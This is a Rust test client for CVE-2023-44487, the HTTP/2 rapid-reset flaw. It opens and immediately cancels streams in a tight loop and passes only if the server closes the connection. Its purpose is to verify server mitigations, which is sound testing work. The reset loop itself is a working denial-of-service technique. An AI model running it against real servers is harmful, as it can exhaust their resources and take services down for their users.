//! An abusive HTTP/2 client for the rapid-reset test (CVE-2023-44487): it
//! opens streams and cancels each at once, as fast as it can.

use anyhow::{bail, Context, Result};
use std::net::SocketAddr;
use tokio::net::TcpStream;

use crate::say;

pub async fn client(addr: SocketAddr, streams: u64) -> Result<()> {
    let tcp = TcpStream::connect(addr).await.context("connect")?;
    let (mut client, connection) = h2::client::handshake(tcp).await.context("h2 handshake")?;
    let conn = tokio::spawn(connection);
    let mut sent = 0;
    for _ in 0..streams {
        let req = http::Request::get(format!("http://{addr}/slow?ms=5000")).body(())?;
        let ready = match client.ready().await {
            Ok(c) => c,
            Err(_) => break,
        };
        client = ready;
        let Ok((_rsp, mut stream)) = client.send_request(req, true) else {
            break;
        };
        stream.send_reset(h2::Reason::CANCEL);
        sent += 1;
        tokio::task::yield_now().await;
    }
    let end = tokio::time::timeout(std::time::Duration::from_secs(5), conn).await;
    match end {
        Ok(Ok(Err(e))) if e.reason() == Some(h2::Reason::ENHANCE_YOUR_CALM) || e.is_go_away() => {
            say(&format!("OK closed after {sent} resets: {e}"));
            Ok(())
        }
        // The server closed the connection while we were still writing: the
        // GOAWAY may be lost behind the broken pipe or the reset.
        Ok(Ok(Err(e)))
            if e.get_io().is_some_and(|io| {
                matches!(
                    io.kind(),
                    std::io::ErrorKind::BrokenPipe | std::io::ErrorKind::ConnectionReset
                )
            }) =>
        {
            say(&format!("OK closed after {sent} resets: {e}"));
            Ok(())
        }
        Ok(other) => bail!("after {sent} resets the connection ended with {other:?}"),
        Err(_) => bail!("after {sent} resets the connection is still open"),
    }
}
